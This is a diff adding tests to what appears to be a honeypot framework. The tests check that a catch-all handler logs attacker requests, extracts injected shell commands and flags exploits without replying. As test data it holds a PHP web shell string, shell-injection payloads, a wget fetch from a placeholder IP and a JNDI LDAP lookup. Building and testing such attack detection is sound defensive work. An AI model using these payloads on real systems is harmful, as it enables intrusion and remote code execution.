@@ -16,6 +16,7 @@ from eudaemon.protocols import load
 from eudaemon.protocols._http import Request
 from eudaemon.protocols._places import Look
 from eudaemon.protocols._uploads import files_of
+from eudaemon.protocols.catchall import COMMAND_LINES_MAX, LOOK_BYTES_MAX
 from eudaemon.protocols.http import Http, planted, ways
 from eudaemon.testing.script import Table, visit
 from eudaemon.world.memory import Memory
@@ -361,3 +362,38 @@ def test_other_rooms_take_what_was_meant_for_other_products_and_answer_as_ever(n
     assert [keep.data for keep in kept if keep.origin == "upload"] == [b"<?php system($_GET['a']);?>"]
     for target in ORDINARY[1:]:
         assert exploits(ask_of(name, f"GET {target}", headers=BROWSER)) == [], target
+
+
+def catchall(*requests: bytes, cut: bool = False) -> Table:
+    talk = Table(load("catchall")(visit(host=HOST, port=9999))).open()
+    for request in requests:
+        talk.say(request)
+        if not cut:
+            talk.wait(1)
+    talk.end()
+    return talk
+
+
+def test_at_any_other_port_requests_are_taken_unanswered() -> None:
+    first = b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\n\r\nh=1;id"
+    second = b"GET /y?h=;uname+-a HTTP/1.1\r\nHost: a\r\n\r\n"
+    for talk in (catchall(first, second), catchall(first + second, cut=True)):
+        assert commands(talk) == ["id", "uname -a"]  # each once
+        assert exploits(talk) == ["shell-injection"] * 2
+        assert talk.sent == b""
+    assert commands(catchall(first.replace(b"Length: 6", b"Length: 60"), cut=True)) == ["id"]
+    fetching = catchall(f"GET /y?h=;{quote(WGET)} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
+    assert [wish.download.url for wish in fetching.wishes] == ["http://198.51.100.7/x"]
+    asked = catchall(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n")
+    assert [wish.download.url for wish in asked.wishes] == ["ldap://198.51.100.7/a"]
+    for target in ORDINARY:
+        assert exploits(catchall(f"GET {target} HTTP/1.1\r\n{BROWSER}\r\n\r\n".encode())) == [], target
+
+
+@pytest.mark.parametrize("past", [0, 1])
+def test_there_requests_are_looked_through_up_to_limits(past: int) -> None:
+    head = b"POST /x?h=;id HTTP/1.1\r\nContent-Length: "
+    size = LOOK_BYTES_MAX + past - len(head) - 4 - 6
+    assert (commands(catchall(head + b"%d\r\n\r\n" % size + b"a" * size)) == ["id"]) is not bool(past)
+    lines = quote("\n".join(["id"] * (COMMAND_LINES_MAX + past)))
+    assert len(commands(catchall(f"GET /x?h=;{lines} HTTP/1.1\r\n\r\n".encode()))) == COMMAND_LINES_MAX
